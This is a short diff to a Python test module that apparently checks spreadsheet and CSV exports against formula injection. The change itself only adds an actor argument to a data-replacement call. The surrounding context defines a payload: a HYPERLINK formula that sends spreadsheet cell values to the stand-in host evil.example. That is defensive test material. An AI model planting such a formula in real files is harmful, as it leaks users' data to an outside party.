@@ -27,6 +27,7 @@ from rygrad.activities.documents import DOCX_TYPE
 from rygrad.core.exports import XLSX_TYPE, Table, table_to_csv, table_to_xlsx
 from rygrad.core.models import InitiativeScoped
 from rygrad.core.testing import build_world
+from rygrad.measurement.permissions import installation_actor
 
 ATTACK = '=HYPERLINK("http://evil.example/?leak="&F2&F3&F4,"{label}")'
 # The exports that carry text someone typed or imported (the others hold only numbers,
@@ -90,7 +91,8 @@ def _poison_schools(objects) -> None:
     for year in (2018, 2019):
         wave = import_data(inst.initiative, inst, year,
                            random_data(rng, n=80, width=5, schools=schools), replace=True).wave
-    population_replace(wave=wave, rows=[(schools[0], 5, 20), (schools[1], 6, 20)])
+    population_replace(wave=wave, rows=[(schools[0], 5, 20), (schools[1], 6, 20)],
+                       by=installation_actor(wave.initiative))
 
 
 def _url(world, objects, case, fmt) -> str:
